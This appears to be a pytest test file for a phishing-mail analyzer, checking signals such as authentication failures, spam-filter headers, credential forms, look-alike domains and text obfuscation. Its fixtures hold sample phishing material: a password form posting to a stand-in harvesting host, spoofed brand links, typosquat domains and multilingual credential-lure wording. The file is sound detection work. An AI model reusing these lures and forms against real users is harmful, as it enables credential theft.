"""The signals added for learned scoring, each on a message that carries it and on one that does not."""

from __future__ import annotations

import pytest
from swordfish.analysis import TenantPolicy, VerdictKind, analyze, parse_message
from swordfish.analysis.lookalike import Lookalike

from .helpers import REPO, build


def names(verdict) -> set[str]:
    return {r.name for r in verdict.reasons}


M365_AUTH = ("spf=fail (sender IP is 203.0.113.9) smtp.mailfrom=evil.example; dkim=none (message not signed) "
             "header.d=none;dmarc=fail action=none header.from=contoso.example;compauth={} reason=001")


def test_compauth_fail_is_read_from_microsoft_authentication_results():
    failed = analyze(build(headers={"Authentication-Results": M365_AUTH.format("fail")}))
    passed = analyze(build(headers={"Authentication-Results": M365_AUTH.format("pass")}))
    assert "COMPAUTH_FAIL" in names(failed) and "compauth=fail" in next(
        r.evidence for r in failed.reasons if r.name == "COMPAUTH_FAIL")
    assert "COMPAUTH_FAIL" not in names(passed)


def test_microsoft_authentication_results_without_an_authserv_id_keep_their_spf_result():
    # Microsoft writes "spf=fail (...) smtp.mailfrom=...; dkim=none ..." with no server name before the first
    # ";": the first clause is a result like the others
    auth = parse_message(build(headers={"Authentication-Results": M365_AUTH.format("fail")})).auth
    assert {m: a.result for m, a in auth.items()} == {"spf": "fail", "dkim": "none", "dmarc": "fail",
                                                      "compauth": "fail"}
    assert "SPF_FAIL" in names(analyze(build(headers={"Authentication-Results": M365_AUTH.format("fail")})))
    named = parse_message(build(headers={"Authentication-Results": "mx.example.net; spf=softfail smtp.mailfrom=x"}))
    assert named.auth["spf"].result == "softfail"
    # a tenant that trusts only named servers does not trust a header that names none
    trusted = parse_message(build(headers={"Authentication-Results": M365_AUTH.format("fail")}),
                            TenantPolicy(trusted_authserv_ids=["mx.example.net"]))
    assert not trusted.auth


def test_arc_fail_is_a_signal_and_arc_pass_is_not():
    fail = analyze(build(headers={"Authentication-Results": "mx.example.net; arc=fail (signature failed)"}))
    ok = analyze(build(headers={"Authentication-Results": "mx.example.net; arc=pass (i=1)"}))
    assert "ARC_FAIL" in names(fail) and "ARC_FAIL" not in names(ok)


def test_microsoft_filtering_verdicts_are_read():
    report = "CIP:203.0.113.9;CTRY:XX;LANG:en;SCL:{};SRV:;IPV:NLI;SFV:{};H:x;PTR:;CAT:{};SFS:;DIR:INB;"
    bad = analyze(build(headers={"X-Forefront-Antispam-Report": report.format(9, "SPM", "PHSH"),
                                 "X-Microsoft-Antispam": "BCL:8;"}))
    good = analyze(build(headers={"X-Forefront-Antispam-Report": report.format(1, "NSPM", "NONE"),
                                  "X-Microsoft-Antispam": "BCL:0;"}))
    assert {"RECEIVER_SCL_HIGH", "RECEIVER_SPAM_VERDICT", "RECEIVER_PHISH_VERDICT", "RECEIVER_BULK_HIGH"} <= names(bad)
    assert not names(good) & {"RECEIVER_SCL_HIGH", "RECEIVER_SPAM_VERDICT", "RECEIVER_PHISH_VERDICT",
                              "RECEIVER_BULK_HIGH"}


def test_outlook_filing_a_message_as_junk_is_a_receiver_spam_verdict():
    delivery = "ucf:0;jmr:0;auth:0;dest:{};ENG:(910001)(944506478)(944626604);{}"
    junk = analyze(build(headers={"X-Microsoft-Antispam-Mailbox-Delivery": delivery.format("J", "RF:JunkEmail;")}))
    inbox = analyze(build(headers={"X-Microsoft-Antispam-Mailbox-Delivery": delivery.format("I", "")}))
    # the recipient's own Outlook rule moved it: the user's choice, not the server's verdict
    user_rule = analyze(build(headers={"X-Microsoft-Antispam-Mailbox-Delivery": delivery.format("J", "OFR:CustomRules;")}))
    evidence = next(r.evidence for r in junk.reasons if r.name == "RECEIVER_SPAM_VERDICT")
    assert "dest:J" in evidence
    assert "RECEIVER_SPAM_VERDICT" not in names(inbox) | names(user_rule)


def test_microsoft_spam_category_is_a_receiver_spam_verdict():
    report = "CIP:203.0.113.9;CTRY:XX;LANG:pt;SCL:1;SRV:;IPV:NLI;SFV:NSPM;H:x;PTR:;CAT:{};SFS:;DIR:INB;"
    spam = analyze(build(headers={"X-Forefront-Antispam-Report": report.format("SPM")}))
    bulk = analyze(build(headers={"X-Forefront-Antispam-Report": report.format("BULK")}))
    assert "CAT:SPM" in next(r.evidence for r in spam.reasons if r.name == "RECEIVER_SPAM_VERDICT")
    assert "RECEIVER_SPAM_VERDICT" not in names(bulk)


def test_spamassassin_and_rspamd_verdict_headers_count_only_when_they_say_spam():
    yes = analyze(build(headers={"X-Spam-Status": "Yes, score=14.2 required=5.0 tests=BAYES_99"}))
    no = analyze(build(headers={"X-Spam-Status": "No, score=-2.1 required=5.0 tests=BAYES_00",
                                "X-Spamd-Result": "default: False [-0.21 / 15.00];"}))
    rspamd = analyze(build(headers={"X-Spamd-Result": "default: True [16.10 / 15.00];"}))
    assert "RECEIVER_SPAM_VERDICT" in names(yes) and "RECEIVER_SPAM_VERDICT" in names(rspamd)
    assert "RECEIVER_SPAM_VERDICT" not in names(no)


def test_only_the_topmost_verdict_header_counts():
    # a forwarder's older header below the receiving server's own verdict does not override it
    raw = b"X-Spam-Status: No, score=0.1\r\nX-Spam-Status: Yes, score=20\r\nFrom: a@b.example\r\n\r\nhi\r\n"
    assert parse_message(raw).verdict_headers["spam_status"].startswith("No")
    assert "RECEIVER_SPAM_VERDICT" not in names(analyze(raw))


PASSWORD_FORM = ('<p>Your mailbox is full.</p><form action="https://collect.evil.example/p.php" method="post">'
                 '<input type="text" name="email"><input type="password" name="pw"><input type="submit"></form>'
                 '<a href="javascript:document.forms[0].submit()">Confirm</a>')


def test_the_constructed_password_form_and_javascript_link_message_is_not_clean():
    v = analyze(build(sender="IT Helpdesk <helpdesk@mailbox-admin.example>", subject="Mailbox quota",
                      body="Your mailbox is full.", html=PASSWORD_FORM))
    assert {"CREDENTIAL_FORM", "JAVASCRIPT_LINK"} <= names(v)
    assert v.verdict != VerdictKind.CLEAN and v.score > 0


def test_a_search_form_without_password_posting_to_the_same_page_is_not_a_credential_form():
    html = '<form action="/search" method="get"><input type="text" name="q"></form><a href="https://a.example/">a</a>'
    v = analyze(build(html=html))
    assert not names(v) & {"CREDENTIAL_FORM", "JAVASCRIPT_LINK"}


def test_a_form_posting_to_another_site_is_a_credential_form_even_without_a_password_field():
    html = '<form action="https://collect.evil.example/x"><input name="card"></form>'
    assert "CREDENTIAL_FORM" in names(analyze(build(html=html)))


def test_html_attachment_is_a_signal_and_a_pdf_is_not():
    html = analyze(build(attachments=[("Remittance.htm", b"<html><body>open me</body></html>", "text/html")]))
    pdf = analyze(build(attachments=[("invoice.pdf", b"%PDF-1.4\n%...\n", "application/pdf")]))
    assert "HTML_ATTACHMENT" in names(html) and "HTML_ATTACHMENT" not in names(pdf)


def test_brand_named_in_the_subject_from_an_unrelated_domain():
    fake = analyze(build(sender="Service <no-reply@account-notice.example>", subject="Your PayPal account is limited"))
    real = analyze(build(sender="PayPal <service@paypal.com>", subject="Your PayPal receipt"))
    assert "BRAND_IN_SUBJECT" in names(fake) and "BRAND_IN_SUBJECT" not in names(real)


def test_links_on_abused_top_level_domains():
    bad = analyze(build(body="Log in at https://secure-login.top/account now"))
    good = analyze(build(body="Log in at https://secure-login.example.com/account now"))
    assert "SUSPICIOUS_TLD" in names(bad) and "SUSPICIOUS_TLD" not in names(good)


def test_ip_literal_url_both_ways():
    assert "IP_URL" in names(analyze(build(body="see http://203.0.113.7/login.php")))
    assert "IP_URL" not in names(analyze(build(body="see https://www.example.org/login")))


def test_a_link_to_an_address_inside_the_readers_network_is_not_an_ip_url():
    # usrp-users: "my X310 at http://192.168.10.2 does not answer"; no lure links where its victim cannot go
    for internal in ("192.168.10.2", "10.10.0.100", "172.20.1.1", "127.0.0.1", "169.254.3.4", "[fe80::1]"):
        assert "IP_URL" not in names(analyze(build(body=f"the device at http://{internal}/status answers")))
    assert "IP_URL" in names(analyze(build(body="sign in at http://172.32.1.1/status today")))  # just outside


def test_link_text_naming_one_domain_and_pointing_at_another():
    html = '<a href="https://evil.example/paypal">https://www.paypal.com/signin</a>'
    same = '<a href="https://www.paypal.com/signin?x=1">www.paypal.com/signin</a>'
    assert "LINK_TEXT_MISMATCH" in names(analyze(build(html=html)))
    assert "LINK_TEXT_MISMATCH" not in names(analyze(build(html=same)))


def test_failed_authentication_with_a_credential_request_is_an_interaction():
    auth = {"Authentication-Results": "mx.example.net; spf=fail smtp.mailfrom=evil.example; "
                                      "dmarc=fail header.from=evil.example"}
    body = "Your password will expire today. Verify your account within 24 hours."
    both = analyze(build(headers=auth, body=body))
    only_words = analyze(build(body=body))
    only_auth = analyze(build(headers=auth))
    assert "AUTHFAIL_WITH_CREDENTIAL_ASK" in names(both)
    assert "AUTHFAIL_WITH_CREDENTIAL_ASK" not in names(only_words) | names(only_auth)
    assert both.score > only_words.score + only_auth.score - 0.01  # never less than the parts


def test_a_sender_nothing_authenticates_counts_as_failed_authentication_in_the_interactions():
    # Microsoft's way: no authserv-id, SPF none and no DKIM signature (the throwaway-domain lure)
    def auth(spf: str, dkim: str) -> dict[str, str]:
        return {"Authentication-Results": f"spf={spf} (sender IP is 203.0.113.9) smtp.mailfrom=x.example; "
                                          f"dkim={dkim} header.d=x.example;dmarc=none action=none header.from=x.example"}
    ask = "Your password will expire today. Verify your account within 24 hours."
    pay = "Please process the attached invoice today and confirm the wire transfer to our new bank account."
    unauthenticated = analyze(build(headers=auth("none", "none"), body=ask))
    spf_passed = analyze(build(headers=auth("pass", "none"), body=ask))
    dkim_passed = analyze(build(headers=auth("softfail", "pass"), body=ask))
    assert "AUTHFAIL_WITH_CREDENTIAL_ASK" in names(unauthenticated)
    assert "DKIM_NONE, SPF_NONE" in next(r.evidence for r in unauthenticated.reasons
                                         if r.name == "AUTHFAIL_WITH_CREDENTIAL_ASK")
    assert "AUTHFAIL_WITH_CREDENTIAL_ASK" not in names(spf_passed)
    # softfail was a failure before this change and stays one
    assert "AUTHFAIL_WITH_CREDENTIAL_ASK" in names(dkim_passed)
    assert "AUTHFAIL_WITH_CREDENTIAL_ASK" not in names(analyze(build(headers=auth("pass", "pass"), body=ask)))
    assert "PAYMENT_ASK_FROM_UNVERIFIED" in names(analyze(build(headers=auth("none", "none"), body=pay)))
    assert "PAYMENT_ASK_FROM_UNVERIFIED" not in names(analyze(build(headers=auth("pass", "none"), body=pay)))


def test_the_swordfish_m365_sample_stacks_several_signals():
    v = analyze((REPO / "samples" / "swordfish" / "m365-password-expiry-phish.eml").read_bytes())
    assert "SEVERAL_PHISH_SIGNALS" in names(v) and v.verdict == VerdictKind.PHISHING


def test_free_site_hosting_is_weighed_apart_from_file_sharing():
    site = analyze(build(body="Review the document: https://secure-docs-7f2a.web.app/login"))
    drive = analyze(build(body="Slides: https://drive.google.com/file/d/abc/view"))
    assert "FREE_SITE_HOST" in names(site) and "FREE_FILE_HOST" not in names(site)
    assert "FREE_FILE_HOST" in names(drive) and "FREE_SITE_HOST" not in names(drive)


def test_brand_named_in_a_credential_lure_from_a_domain_the_brand_does_not_own():
    body = "Dear PayPal member, we noticed unusual sign-in activity. Verify your account within 24 hours."
    lure = analyze(build(sender="Service <service@secure-member-center.example>", body=body))
    real = analyze(build(sender="PayPal <service@paypal.com>", body=body))
    no_ask = analyze(build(sender="Shop <news@shop.example>", body="We now accept PayPal at checkout."))
    assert "BRAND_CREDENTIAL_LURE" in names(lure)
    assert "BRAND_CREDENTIAL_LURE" not in names(real) | names(no_ask)


def test_the_tenants_own_it_department_naming_microsoft_is_not_a_brand_lure():
    from swordfish.analysis import TenantPolicy

    body = "Your Microsoft password will expire today. Verify your account on the intranet."
    own = analyze(build(sender="IT <it@example.com>", body=body), TenantPolicy(domains=["example.com"]))
    assert "BRAND_CREDENTIAL_LURE" not in names(own)


def test_a_security_gateway_rewrite_is_compared_with_the_link_it_wraps():
    safe = ('<a href="https://nam12.safelinks.protection.outlook.com/?url=https%3A%2F%2Fgithub.com%2Fx&data=1">'
            'https://github.com/x</a>')
    evil = ('<a href="https://nam12.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.example%2Fx&data=1">'
            'https://github.com/x</a>')
    assert "LINK_TEXT_MISMATCH" not in names(analyze(build(html=safe)))
    assert "text github.com -> evil.example" in next(
        r.evidence for r in analyze(build(html=evil)).reasons if r.name == "LINK_TEXT_MISMATCH")


def test_anchor_text_naming_a_file_is_not_a_domain():
    html = '<a href="https://github.com/EttusResearch/uhd/blob/master/mpmd_mb_iface.cpp">mpmd_mb_iface.cpp</a>'
    assert "LINK_TEXT_MISMATCH" not in names(analyze(build(html=html)))


def test_link_text_or_target_without_a_public_suffix_is_not_a_mismatch():
    # usrp-users: a video's file name shown as its Drive link's text; an archive's mangled "noclick_com" host
    file_name = '<a href="https://drive.google.com/file/d/1pVE/view?usp=drive_web">Gain30.75.webm</a>'
    mangled = ('<a href="http://lists.ettus.noclick_com/mailman/listinfo/usrp-users_lists.ettus.com">'
               'http://lists.ettus.com/mailman/listinfo/usrp-users_lists.ettus.com</a>')
    for html in (file_name, mangled):
        assert "LINK_TEXT_MISMATCH" not in names(analyze(build(html=html)))
    real = '<a href="http://198.51.100.7/login">https://www.ettus.com/login</a>'
    assert "LINK_TEXT_MISMATCH" in names(analyze(build(html=real)))


# Forms posting elsewhere that ask the reader for nothing secret, and the same form asking for a login or account.
# SpamAssassin hard_ham: a newsletter's trial form posts to its mailing service with a hidden "user" field; the
# forms of 2002 newsletters: an e-mail box and a search box posting to the sender.
_TRIAL_FORM = ('<form method="POST" action="http://www.imakenews.com/eletra/mod_input_proc.cfm">'
               '<input type="hidden" name="XXDESXXuser" value="mediaunspun">'
               '<input type="text" name="XXDESXXemail_address"><input type="submit" name="login_button"></form>')
_SUBSCRIBE_AND_SEARCH = ('<form action="http://lists.newsletter.example/subscribe" method="post"><input name="email">'
                         '<input type="submit" value="Subscribe"></form><form action="https://search.example/q">'
                         '<input name="q"></form>')


@pytest.mark.parametrize(("html", "asking"), [
    (_TRIAL_FORM, _TRIAL_FORM.replace('<input type="text" name="XXDESXXemail_address">',
                                      '<input type="text" name="account_no">')),
    (_SUBSCRIBE_AND_SEARCH, _SUBSCRIBE_AND_SEARCH.replace('<input name="q">', '<input name="q"><input name="username">')),
])
def test_a_newsletter_form_posting_elsewhere_is_a_credential_form_only_when_it_asks_for_one(html, asking):
    assert "CREDENTIAL_FORM" not in names(analyze(build(html=html)))
    assert "CREDENTIAL_FORM" in names(analyze(build(html=asking)))


WEBMAIL_LURES = [
    ("The password for jane@contoso.example expires on 7/24/2025. Use the button below.", "password expiry"),
    ("Please use the button below to continue with the current password.", "keep password"),
    ("The jane@contoso.example email account is full. Remove some mail.", "mailbox full"),
    ("Your account requires an update to keep sending messages.", "account upgrade"),
    ("Upgrade your mailbox to avoid losing mail.", "account upgrade"),
    ("Please update your details within the next 48 hours.", "within hours"),
    ("You have 4 quarantined messages waiting for release.", "held messages"),
    ("您的 jane@contoso.example 电子邮件密码将在1天后到期！", "zh mailbox lure"),
    ("你的的邮件已被锁定,请验证您的帐户", "zh mailbox lure"),
    ("お客様のアカウントが一時的に制限されております。再認証を行ってください。", "ja account lure"),
    ("您的帳戶已被暫時阻止和限制發送和接收電子郵件", "zh mailbox lure"),  # Traditional script
    ("您的郵箱容量已滿，請立即處理", "zh mailbox lure"),
    ("请点击下方按钮升级邮箱，以免影响正常使用", "zh mailbox upgrade"),
    ("公司邮件系统证书已更新，请立即备案账户信息", "zh mailbox upgrade"),
    ("お支払いのため、クレジットカード情報を再確認する必要があります。", "ja card details"),
    ("お客様のアカウントに異常なアクティビティが検出されました。", "ja card details"),
]
ORDINARY = [
    "The password manager update is unrelated to this patch.",
    "I'll keep the current patch series and resend the rest within a week.",
    "Our shared drive is full of old builds; I removed a few.",
    "The board requires an update of its FPGA image before the test.",
    "会议纪要已发送，请查收附件。密码学课程的资料在共享盘。",
    "明日の会議の資料を共有します。認証局の証明書は更新済みです。",
    "系统升级已完成，新版本的编译器在服务器上。邮件列表的归档在网站上。",
    "カード型のセンサーを確認しました。ログの異常値は後で送ります。",
    # a sign-up's and a shop's ordinary wording
    "请点击以下链接验证您的邮箱地址，完成注册。",
    "カード情報を入力して注文を確定してください。アカウント情報を更新しました。",
]


@pytest.mark.parametrize(("body", "label"), WEBMAIL_LURES)
def test_webmail_lure_wording_is_credential_language(body: str, label: str) -> None:
    found = next((r.evidence for r in analyze(build(body=body)).reasons if r.name == "CREDENTIAL_PHISH_LANGUAGE"), "")
    assert label in found.split(", ")


@pytest.mark.parametrize("body", ORDINARY)
def test_ordinary_wording_near_those_lures_is_not(body: str) -> None:
    assert "CREDENTIAL_PHISH_LANGUAGE" not in names(analyze(build(body=body)))


def test_link_text_showing_a_brands_own_domain_on_a_link_elsewhere_is_a_brand_claim():
    spoofed = analyze(build(sender="PayPal <service@paypal.com>",
                            html='<a href="http://211.10.3.4/webscr">https://www.paypal.com/cgi-bin/webscr</a>'))
    real = analyze(build(html='<a href="https://www.paypal.com/signin?x=1">www.paypal.com</a>'))
    own_subdomain = analyze(build(html='<a href="https://links.microsoft.com/t/1">www.outlook.com</a>'))
    evidence = next(r.evidence for r in spoofed.reasons if r.name == "BRAND_LINK_TEXT_MISMATCH")
    assert "paypal.com (paypal) -> 211.10.3.4" in evidence
    assert "BRAND_LINK_TEXT_MISMATCH" not in names(real) | names(own_subdomain)  # microsoft owns both


def test_a_quoted_safelinks_url_shown_as_link_text_is_not_a_mismatch():
    # a reply quotes the Outlook-rewritten link as its text; the link itself is the same rewrite
    safelink = ("https://nam10.safelinks.protection.outlook.com/?url=https%3A%2F%2Ffiles.ettus.com%2Fmanual"
                "%2Fpage_calibration.html&data=05%7C01")
    v = analyze(build(html=f'<a href="{safelink}">{safelink}</a>'))
    assert not names(v) & {"LINK_TEXT_MISMATCH", "BRAND_LINK_TEXT_MISMATCH"}


def test_amazons_own_image_host_is_not_a_lookalike_of_amazon():
    html = ('<img src="https://g-ecx.images-amazon.com/images/G/01/x.png">'
            '<a href="https://g-ecx.images-amazon.com/images/x.png">logo</a>')
    own = analyze(build(sender="Amazon <ship-confirm@amazon.com>", html=html))
    other = analyze(build(sender="Amazon <ship-confirm@amazon.com>",
                          html=html.replace("images-amazon.com", "images-amazon-support.com")))
    assert "LOOKALIKE_DOMAIN" not in names(own)
    assert "LOOKALIKE_DOMAIN" in names(other)


def test_words_broken_up_by_invisible_characters_are_obfuscation():
    zero_width = "Your pa\u200bss\u200bword exp\u200bires to\u200bday. Keep the same password."
    soft_hyphens = "N\u00ado\u00adt\u00adi\u00adf\u00adi\u00adc\u00adat\u00adio\u00adn: 7 n\u00ade\u00adw e\u00adm\u00adails held"
    hyphenated = "Die Verant\u00adwortung f\u00fcr die \u00dcber\u00adweisung liegt bei der Buch\u00adhaltung."
    one_word = "The pa\u200bssword policy is attached."
    for body in (zero_width, soft_hyphens):
        found = next(r for r in analyze(build(body=body)).reasons if r.name == "TEXT_OBFUSCATION")
        assert found.evidence.startswith(("3 words", "4 words", "5 words"))
    # newsletters hyphenate long words with soft hyphens; one broken word could be a paste
    assert "TEXT_OBFUSCATION" not in names(analyze(build(body=hyphenated)))
    assert "TEXT_OBFUSCATION" not in names(analyze(build(body=one_word)))


def test_words_mixing_latin_with_cyrillic_or_greek_letters_are_obfuscation():
    homoglyphs = "Your \u0440assword expires today. \u03b3ou must take immediate steps to keep y\u043eur account."
    v = analyze(build(body=homoglyphs))
    evidence = next(r.evidence for r in v.reasons if r.name == "TEXT_OBFUSCATION")
    assert "'\\u0440assword'" in evidence  # shown escaped: the reader sees which letter is foreign
    russian = "\u041f\u0440\u0438\u0432\u0435\u0442, the build on Linux works; \u0441\u043f\u0430\u0441\u0438\u0431\u043e."
    units = "The jitter is 10\u03bcs at 5k\u03a9 and 3\u03c9t per period."
    for body in (russian, units):  # whole words in one script, and units, are ordinary text
        assert "TEXT_OBFUSCATION" not in names(analyze(build(body=body)))


def test_the_recipients_own_address_in_the_subject_is_a_signal():
    lure = analyze(build(subject="j.doe@example.com password expires today"))
    assert "subject shows the recipient's address j.doe@example.com" in next(
        r.evidence for r in lure.reasons if r.name == "RECIPIENT_IN_SUBJECT")
    other_address = analyze(build(subject="Please add sam@partner-firm.com to the list"))
    plain = analyze(build(subject="Password policy for the team"))
    assert "RECIPIENT_IN_SUBJECT" not in names(other_address) | names(plain)



def test_the_word_email_in_a_domain_is_not_a_typo_of_gmail():
    from swordfish.analysis.lookalike import brand_lookalike
    for host in ("email.de", "off.email-redir.com"):
        assert brand_lookalike(host) is None, host
    assert brand_lookalike("gmaill.com").how == "typo"
    assert brand_lookalike("login-gmial.com").how == "typo"
    # the words around the brand are not the look-alike: magazine + luiza is
    assert brand_lookalike("email-magazine-luiza.com") == Lookalike("magalu", "embedded")


def test_a_name_with_another_first_letter_is_not_a_typo_of_a_brand():
    # Klaviyo's list host (kmail, 21 legitimate newsletters of the corpus), UCloud, pCloud, the Jerusalem
    # Post, Lindows, qmail: one edit from gmail, icloud, bpost, windows, but at the letter a reader checks
    # first. posteo (a German mail provider) is one letter longer than poste.
    from swordfish.analysis.lookalike import brand_lookalike
    for host in ("manage.kmail-lists.com", "ucloud.cn", "u.pcloud.link", "www.jpost.com", "lindows.com",
                 "www.qmail.org", "posteo.com.br"):
        assert brand_lookalike(host) is None, host
    for host, target in (("wetraansfer.com", "wetransfer"), ("liinkedin.com", "linkedin"),
                         ("amercanas.com.br", "americanas")):
        assert brand_lookalike(host).how == "typo" and target in brand_lookalike(host).target, host
    # brands one letter from another brand are brands of their own, not typos
    assert brand_lookalike("correos.es") is None and brand_lookalike("www.paypay-bank.co.jp") is None


def test_a_brand_split_across_hyphenated_words_is_a_combosquat():
    from swordfish.analysis.lookalike import brand_lookalike
    for host, brand in (("aproveite-magazine-luiza.com", "magalu"), ("emailcenter-magazine-luiza.com", "magalu"),
                        ("pay-pal-secure.com", "paypal"), ("my-face-book.net", "facebook")):
        assert brand_lookalike(host) == Lookalike(brand, "embedded"), host
    # whole words only: the brand inside a longer word, or words that spell no brand, are no look-alike
    for host in ("west-ern.com", "pineapple-shop.com", "face-books.net"):
        assert brand_lookalike(host) is None, host


def test_a_brands_own_shortener_in_its_own_mail_is_not_a_url_shortener():
    # X's password-reset mail (zkemail fixtures) links through t.co, X's own shortener
    body = "Reset your password: https://t.co/AbCdEf123"
    assert "URL_SHORTENER" not in names(analyze(build(sender="X <info@x.com>", body=body)))
    assert "URL_SHORTENER" in names(analyze(build(sender="Support <info@x-support.example>", body=body)))
    assert "URL_SHORTENER" in names(analyze(build(sender="X <info@x.com>", body="https://bit.ly/AbCdEf123")))


@pytest.mark.parametrize("url", ["https://multaprev.eastus.cloudapp.azure.com/pagar",
                                 "http://ec2-18-231-189-155.sa-east-1.compute.amazonaws.com/nfe",
                                 "https://vmi2894040.contaboserver.net/afip",
                                 "http://advertenciafac.isa-geek.com:5000/factura",
                                 "https://scmfile.serveftp.org/sedex", "https://billing-7.duckdns.org/"])
def test_a_link_to_a_rented_machine_or_a_dynamic_dns_name_is_a_cloud_machine_link(url):
    lure = analyze(build(body=f"Your invoice is ready: {url}"))
    assert "CLOUD_MACHINE_LINK" in names(lure)


@pytest.mark.parametrize("url", ["https://portal.azure.com/#home", "https://aws.amazon.com/ec2/",
                                 "https://acme-invoices.s3.amazonaws.com/x.pdf", "https://www.duckduckgo.com/"])
def test_a_providers_own_pages_are_not_a_cloud_machine_link(url):
    assert "CLOUD_MACHINE_LINK" not in names(analyze(build(body=f"See {url}")))


def test_a_display_name_naming_the_recipients_domain_from_elsewhere_poses_as_their_mail_system():
    lure = analyze(build(sender='"cPanel on example.com" <jaz.mcg@yummymaca.example>',
                         subject="Notice: delivery failure"))
    evidence = next(r.evidence for r in lure.reasons if r.name == "RECIPIENT_DOMAIN_IN_SENDER_NAME")
    assert "example.com" in evidence and "yummymaca.example" in evidence
    # the tenant's domains count even when To names someone else (Bcc, a list)
    bcc = build(sender='"Webmail Acme.com Support" <admin@mailer.example>', subject="Quota")
    assert "RECIPIENT_DOMAIN_IN_SENDER_NAME" in names(analyze(bcc, TenantPolicy(domains=["acme.com"])))


def test_the_recipients_domain_in_a_name_is_no_sign_from_that_domain_or_about_free_mail():
    own = analyze(build(sender='"IT at example.com" <it@example.com>'))
    person = analyze(build(sender='"Sam Jones (partner-firm.com)" <sam@partner-firm.com>'))
    free = build(sender='"gmail.com support" <x@mailer.example>').replace(b"j.doe@example.com", b"j.doe@gmail.com")
    # another domain that ends in the recipient's is not the recipient's ("Dropbox.com" for mail to box.com)
    tail = build(sender='"Dropbox.com Team" <no-reply@dropboxmail.example>').replace(b"j.doe@example.com",
                                                                                   b"j.doe@box.com")
    assert "RECIPIENT_DOMAIN_IN_SENDER_NAME" not in (names(own) | names(person) | names(analyze(free))
                                                     | names(analyze(tail)))


@pytest.mark.parametrize(("sender", "brand"), [('"Banco Santander" <noreply@aulaforadeserie.example>', "santander"),
                                               ('"Mercado Pago" <alerta@seguranca-mp.example>', "mercadopago"),
                                               ('"CORREIOS" <contato@webiss.example>', "correios"),
                                               ('"AFIP Notificacion" <cviera@afip.gov.ar.example>', "afip")])
def test_banks_posts_and_tax_offices_outside_the_english_speaking_world_are_brands(sender, brand):
    lure = analyze(build(sender=sender))
    assert f"names {brand}" in next(r.evidence for r in lure.reasons if r.name == "BRAND_IMPERSONATION")
    assert "BRAND_IMPERSONATION" not in names(analyze(build(sender='"Banco Santander" <avisos@santander.es>')))
